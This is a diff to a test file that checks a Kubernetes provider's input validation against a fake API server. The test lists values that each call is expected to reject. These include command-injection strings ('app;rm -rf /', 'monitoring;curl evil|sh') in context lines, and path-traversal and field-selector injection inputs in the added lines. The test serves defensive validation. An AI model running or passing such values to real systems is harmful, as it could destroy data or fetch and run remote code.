@@ -384,6 +384,13 @@ describe("kubernetes provider against the fake API server", () => {
       k8s.getPodLogs(ns, "api-7d9-abcde", { container: "app;rm -rf /" }),
       k8s.getNode("node-1/../../secrets"),
       k8s.getPod("monitoring;curl evil|sh", "x"),
+      k8s.getHorizontalPodAutoscaler("..", "api"),
+      k8s.getHorizontalPodAutoscaler(ns, "a/../../b"),
+      k8s.listResourceQuotas(".."),
+      k8s.getPersistentVolumeClaim(ns, ".."),
+      k8s.getPersistentVolume("pv-1/../../secrets"),
+      k8s.listEventsByReason("..", "FailedCreate"),
+      k8s.listEventsByReason(ns, "FailedCreate,involvedObject.name=x"),
     ];
     for (const attempt of attempts) {
       const e = await rejection(attempt);
